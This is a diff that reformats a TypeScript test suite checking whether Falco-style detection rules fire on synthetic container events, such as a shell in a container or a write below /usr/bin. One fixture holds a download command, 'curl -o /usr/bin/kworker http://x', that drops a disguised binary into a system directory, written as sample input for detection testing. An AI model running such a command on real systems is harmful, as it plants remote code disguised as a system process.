@@ -16,8 +16,22 @@ function shellInContainer(tty: number | undefined): VigieEvent {
     ts: nowNs(),
     source: 'bpftrace',
     host: 'node-1',
-    container: { id: '3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4', name: 'web', image: 'nginx:1.25' },
-    proc: { pid: 4242, ppid: 4200, name: 'sh', exe: '/bin/sh', cmdline: 'sh', pname: 'runc', anames: ['runc', 'containerd-shim'], uid: 0, tty },
+    container: {
+      id: '3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4',
+      name: 'web',
+      image: 'nginx:1.25',
+    },
+    proc: {
+      pid: 4242,
+      ppid: 4200,
+      name: 'sh',
+      exe: '/bin/sh',
+      cmdline: 'sh',
+      pname: 'runc',
+      anames: ['runc', 'containerd-shim'],
+      uid: 0,
+      tty,
+    },
   };
 }
 
@@ -45,7 +59,9 @@ describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
 
   it('without a terminal it does not fire, and a host shell does not either', () => {
     const engine = new RuleEngine(loaded!, { ruleMatching: 'all' });
-    expect(engine.alerts(shellInContainer(0), 'h').map((a) => a.rule)).not.toContain('Terminal shell in container');
+    expect(engine.alerts(shellInContainer(0), 'h').map((a) => a.rule)).not.toContain(
+      'Terminal shell in container',
+    );
     const host = shellInContainer(34816);
     delete host.container;
     expect(engine.alerts(host, 'h').map((a) => a.rule)).not.toContain('Terminal shell in container');
@@ -60,7 +76,11 @@ describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
   });
 
   it('an open for writing below /usr/bin maps onto the open_write rules', () => {
-    const all = loadRuleFiles(['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => join(dir!, f)));
+    const all = loadRuleFiles(
+      ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) =>
+        join(dir!, f),
+      ),
+    );
     const engine = new RuleEngine(all, { ruleMatching: 'all' });
     const ev: VigieEvent = {
       id: nextEventId(),
@@ -68,14 +88,27 @@ describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
       ts: nowNs(),
       source: 'bpftrace',
       container: { id: 'abcdef0123456789', image: 'alpine:3' },
-      proc: { pid: 10, name: 'curl', exe: '/usr/bin/curl', cmdline: 'curl -o /usr/bin/kworker http://x', pname: 'sh', uid: 0 },
+      proc: {
+        pid: 10,
+        name: 'curl',
+        exe: '/usr/bin/curl',
+        cmdline: 'curl -o /usr/bin/kworker http://x',
+        pname: 'sh',
+        uid: 0,
+      },
       file: { op: 'open', path: '/usr/bin/kworker', flags: 0o1101, write: true, ret: 3 },
     };
     const alerts = engine.alerts(ev, 'h');
     expect(alerts.map((a) => a.rule)).toContain('Write below binary dir');
-    expect(alerts.find((a) => a.rule === 'Write below binary dir')!.output_fields['fd.name']).toBe('/usr/bin/kworker');
+    expect(alerts.find((a) => a.rule === 'Write below binary dir')!.output_fields['fd.name']).toBe(
+      '/usr/bin/kworker',
+    );
     // The same open for reading does not match.
-    const read = { ...ev, id: nextEventId(), file: { op: 'open', path: '/usr/bin/kworker', flags: 0, write: false, ret: 3 } };
+    const read = {
+      ...ev,
+      id: nextEventId(),
+      file: { op: 'open', path: '/usr/bin/kworker', flags: 0, write: false, ret: 3 },
+    };
     expect(engine.alerts(read, 'h').map((a) => a.rule)).not.toContain('Write below binary dir');
   });
 });
@@ -83,7 +116,11 @@ describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
 describe.skipIf(!dir)('the rules detector', () => {
   it('loads configured files and emits alert inputs for live events', async () => {
     const { createRulesDetector } = await import('../../src/detect/rules/detector.js');
-    const d = createRulesDetector({ db: undefined as never, hostname: 'h', config: { rules: { files: [join(dir!, 'falco_rules.yaml')], matching: 'all' } } })!;
+    const d = createRulesDetector({
+      db: undefined as never,
+      hostname: 'h',
+      config: { rules: { files: [join(dir!, 'falco_rules.yaml')], matching: 'all' } },
+    })!;
     expect(d.kinds).toEqual(expect.arrayContaining(['process', 'file', 'network', 'k8s_audit']));
     const got: string[] = [];
     d.onEvent(shellInContainer(34816), (a) => got.push(`${a.rule}/${a.category}/${a.detector}`));
